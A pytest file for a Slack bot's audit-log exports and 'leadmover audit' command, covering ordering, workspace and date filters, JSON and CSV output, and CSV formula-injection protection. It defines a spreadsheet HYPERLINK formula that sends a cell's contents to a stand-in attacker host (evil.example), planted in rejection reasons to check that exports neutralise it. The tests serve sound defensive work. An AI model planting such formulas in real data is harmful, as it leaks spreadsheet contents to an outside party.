"""Reading the audit log (bot.audit_log.AuditLog) and `leadmover audit`: the latest entries of a workspace newest
first; exports oldest first as a JSON array of objects with exactly the documented keys, or as CSV with those columns
under a header row (detail as JSON text), where a cell a spreadsheet would take for a formula starts with `'`; by
workspace and from a time; printed by the command line."""

from __future__ import annotations

import csv
import io
import json
from datetime import datetime, timedelta
from pathlib import Path
from typing import Any, cast

import pytest

from app.cli import main
from bot.access import AccessService
from bot.approvals import ApprovalService
from bot.audit_log import COLUMNS, FORMULA_STARTS, AuditLog
from bot.starts import StartQueue
from storage import audit, migrate
from storage.db import Database
from storage.models import AuditRow
from tests.factories import awaiting_job, cli_database
from tests.stand_ins import RecordingStarts, SlackStandIn

KEYS = ["at", "team_id", "user_id", "action", "detail", "instantly_job_id", "outcome"]
T0 = datetime(2026, 3, 1, 9, 0, 0)


def _entry(
    db: Database,
    at: datetime,
    *,
    team: str = "T1",
    user: str = "U1",
    action: str = "move",
    detail: dict[str, Any] | None = None,
    job: str | None = None,
    outcome: str = "started",
) -> None:
    """An entry recorded at a chosen time (audit.record stamps now); inserting is all the log allows."""
    with db.session() as session:
        session.add(
            AuditRow(
                at=at,
                team_id=team,
                user_id=user,
                action=action,
                detail=detail or {},
                instantly_job_id=job,
                outcome=outcome,
            )
        )


def _fill(db: Database) -> None:
    _entry(db, T0, detail={"job": 1, "order": {"limit": 50}}, job="a" * 24)
    _entry(db, T0 + timedelta(hours=1), team="T2", user="U9", action="allow", detail={"subject": "S1"}, outcome="ok")
    _entry(db, T0 + timedelta(days=1), action="reject", detail={"job": 2}, outcome='said "no", firmly')


@pytest.fixture
def log(sqlite_db: Database) -> AuditLog:
    _fill(sqlite_db)
    return AuditLog(db=sqlite_db)


def _csv(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_the_columns_are_the_documented_ones() -> None:
    assert list(COLUMNS) == KEYS


def test_the_latest_entries_of_a_workspace_come_newest_first(log: AuditLog) -> None:
    assert [entry.action for entry in log.latest(team_id="T1", limit=10)] == ["reject", "move"]
    assert [entry.action for entry in log.latest(team_id="T1", limit=1)] == ["reject"]
    assert log.latest(team_id="T3", limit=10) == []


def test_the_json_export_is_an_array_of_objects_with_exactly_the_documented_keys(log: AuditLog) -> None:
    exported = json.loads(log.export())

    assert isinstance(exported, list)
    assert [list(row) for row in exported] == [KEYS] * 3
    assert exported[0] == {
        "at": "2026-03-01T09:00:00Z",
        "team_id": "T1",
        "user_id": "U1",
        "action": "move",
        "detail": {"job": 1, "order": {"limit": 50}},
        "instantly_job_id": "a" * 24,
        "outcome": "started",
    }
    assert [row["action"] for row in exported] == ["move", "allow", "reject"], "oldest first"
    assert exported[1]["instantly_job_id"] is None


def test_an_empty_log_exports_an_empty_array_and_a_lone_header(sqlite_db: Database) -> None:
    log = AuditLog(db=sqlite_db)

    assert json.loads(log.export()) == []
    assert _csv(log.export(fmt="csv")) == [KEYS]


def test_the_csv_export_has_a_header_and_the_same_rows_with_detail_as_json(log: AuditLog) -> None:
    rows = _csv(log.export(fmt="csv"))
    exported = json.loads(log.export())

    assert rows[0] == KEYS
    assert len(rows) == 1 + len(exported)
    for row, expected in zip(rows[1:], exported, strict=True):
        as_read = dict(zip(KEYS, row, strict=True))
        assert json.loads(as_read.pop("detail")) == expected.pop("detail")
        assert as_read == {key: "" if value is None else value for key, value in expected.items()}
    assert rows[3][KEYS.index("outcome")] == 'said "no", firmly', "quoted, and read back whole"


def test_exports_keep_text_that_is_not_ascii(sqlite_db: Database) -> None:
    _entry(sqlite_db, T0, outcome="rejected: “zu groß”", detail={"reason": "zu groß"})
    log = AuditLog(db=sqlite_db)

    assert "zu groß" in log.export()
    assert json.loads(log.export())[0]["outcome"] == "rejected: “zu groß”"
    assert _csv(log.export(fmt="csv"))[1][KEYS.index("detail")] == '{"reason": "zu groß"}'


def test_an_export_can_be_of_one_workspace(log: AuditLog) -> None:
    assert [row["action"] for row in json.loads(log.export(team_id="T1"))] == ["move", "reject"]
    assert [row[3] for row in _csv(log.export(team_id="T2", fmt="csv"))[1:]] == ["allow"]


def test_an_export_can_start_at_a_time(log: AuditLog) -> None:
    since = T0 + timedelta(hours=1)

    assert [row["action"] for row in json.loads(log.export(since=since))] == ["allow", "reject"]
    assert [row["action"] for row in json.loads(log.export(team_id="T1", since=since))] == ["reject"]


def test_a_recorded_entry_is_exported(sqlite_db: Database) -> None:
    audit.record(sqlite_db, team_id="T1", user_id="U1", action="deny", outcome="denied", detail={"subject": "U2"})

    [row] = json.loads(AuditLog(db=sqlite_db).export())

    assert (row["action"], row["detail"], row["outcome"]) == ("deny", {"subject": "U2"}, "denied")
    assert row["at"].endswith("Z")
    assert datetime.fromisoformat(row["at"].removesuffix("Z"))


# --- a CSV safe to open ---------------------------------------------------------------------------------------------

HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A1,"click")'


def _reject(db: Database, reason: str) -> None:
    """An approver rejects a big move with `reason`, through the real ApprovalService, which audits it."""
    slack = SlackStandIn(team_id="T1")
    access = AccessService(db=db, slack=lambda _team_id: slack, approvers=["UAPP"])
    service = ApprovalService(
        db=db, access=access, starts=cast(StartQueue, RecordingStarts()), owner="web-1", threshold=1000, hours=24.0
    )
    record = awaiting_job(db, user="U1")

    decision = service.reject(team_id="T1", job_id=record.id, approver="UAPP", reason=reason)

    assert decision.refusal is None


def test_a_reject_reason_that_is_a_formula_is_exported_as_text_in_csv_and_unchanged_in_json(
    sqlite_db: Database,
) -> None:
    _reject(sqlite_db, HYPERLINK)
    log = AuditLog(db=sqlite_db)

    [header, row] = _csv(log.export(fmt="csv"))

    rejected = dict(zip(header, row, strict=True))
    assert (rejected["action"], rejected["outcome"]) == ("reject", "'" + HYPERLINK)
    assert [entry["outcome"] for entry in json.loads(log.export())] == [HYPERLINK]


@pytest.mark.parametrize("start", FORMULA_STARTS, ids=["equals", "plus", "minus", "at", "tab", "carriage return"])
def test_every_text_column_is_written_as_text_whatever_it_starts_with(sqlite_db: Database, start: str) -> None:
    planted = {"team_id": "T", "user_id": "U", "action": "a", "instantly_job_id": "j", "outcome": "o"}
    planted = {column: start + value for column, value in planted.items()}
    _entry(
        sqlite_db,
        T0,
        team=planted["team_id"],
        user=planted["user_id"],
        action=planted["action"],
        job=planted["instantly_job_id"],
        outcome=planted["outcome"],
    )
    log = AuditLog(db=sqlite_db)

    [header, row] = _csv(log.export(fmt="csv"))

    cells = dict(zip(header, row, strict=True))
    assert {column: cells[column] for column in planted} == {column: "'" + value for column, value in planted.items()}
    assert (cells["at"], cells["detail"]) == ("2026-03-01T09:00:00Z", "{}"), "the others are left alone"
    exported = json.loads(log.export())[0]
    assert {column: exported[column] for column in planted} == planted, "JSON is unchanged"


def test_a_cell_with_a_formula_sign_further_in_or_a_quote_already_is_left_alone(sqlite_db: Database) -> None:
    _entry(sqlite_db, T0, outcome="rejected: 2+2=4", detail={"reason": "=1+1"})
    _entry(sqlite_db, T0, outcome="'=quoted already")
    log = AuditLog(db=sqlite_db)

    rows = _csv(log.export(fmt="csv"))[1:]

    assert [row[KEYS.index("outcome")] for row in rows] == ["rejected: 2+2=4", "'=quoted already"]
    assert rows[0][KEYS.index("detail")] == '{"reason": "=1+1"}', "a JSON object starts with {"


@pytest.mark.parametrize("newline", ["\r", "\n", "\r\n"], ids=["carriage return", "line feed", "both"])
def test_a_line_break_cannot_start_a_row_of_its_own(sqlite_db: Database, newline: str) -> None:
    # Unquoted, the text after the break would be a new row, its first cell a formula nobody prefixed.
    _reject(sqlite_db, f"no{newline}{HYPERLINK}")

    rows = _csv(AuditLog(db=sqlite_db).export(fmt="csv"))

    assert len(rows) == 2
    assert rows[1][KEYS.index("outcome")] == f"no{newline}{HYPERLINK}"


# --- leadmover audit ----------------------------------------------------------------------------------------------


@pytest.fixture
def database_file(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> str:
    url = cli_database(tmp_path, monkeypatch)
    db = Database(url)
    migrate.upgrade(db)
    _fill(db)
    db.dispose()
    return url


def test_the_audit_command_prints_json_by_default(database_file: str, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["audit"]) == 0

    exported = json.loads(capsys.readouterr().out)
    assert [row["action"] for row in exported] == ["move", "allow", "reject"]


def test_the_audit_command_prints_csv(database_file: str, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["audit", "--format", "csv"]) == 0

    rows = [row for row in _csv(capsys.readouterr().out) if row]
    assert rows[0] == KEYS
    assert [row[3] for row in rows[1:]] == ["move", "allow", "reject"]


def test_the_printed_csv_is_the_export_with_no_blank_record_at_the_end(
    database_file: str, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["audit", "--format", "csv"]) == 0

    printed = capsys.readouterr().out
    db = Database(database_file)
    try:
        assert printed == AuditLog(db=db).export(fmt="csv")
    finally:
        db.dispose()
    assert [] not in _csv(printed)


def test_the_audit_command_filters_by_workspace_and_date(
    database_file: str, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["audit", "--team", "T1", "--since", "2026-03-02"]) == 0
    assert [row["action"] for row in json.loads(capsys.readouterr().out)] == ["reject"]

    assert main(["audit", "--team", "T2", "--format", "csv"]) == 0
    assert [row[1] for row in _csv(capsys.readouterr().out)[1:] if row] == ["T2"]


def test_a_since_with_a_time_zone_is_taken_as_that_moment_in_utc(
    database_file: str, capsys: pytest.CaptureFixture[str]
) -> None:
    # 11:00 at +02:00 is 09:00 UTC, the first entry's time: it is included, and so is everything after.
    assert main(["audit", "--since", "2026-03-01T11:00:00+02:00"]) == 0
    assert len(json.loads(capsys.readouterr().out)) == 3

    assert main(["audit", "--since", "2026-03-01T11:00:01+02:00"]) == 0
    assert [row["action"] for row in json.loads(capsys.readouterr().out)] == ["allow", "reject"]


def test_a_since_that_is_not_a_date_is_refused(database_file: str, capsys: pytest.CaptureFixture[str]) -> None:
    with pytest.raises(SystemExit) as exit_:
        main(["audit", "--since", "last tuesday"])

    assert exit_.value.code == 2
    assert "is not a date" in capsys.readouterr().err


def test_the_audit_command_prints_a_planted_formula_as_text(
    database_file: str, capsys: pytest.CaptureFixture[str]
) -> None:
    db = Database(database_file)
    try:
        _reject(db, HYPERLINK)
    finally:
        db.dispose()

    assert main(["audit", "--format", "csv"]) == 0

    rows = [row for row in _csv(capsys.readouterr().out) if row]
    assert rows[-1][KEYS.index("outcome")] == "'" + HYPERLINK
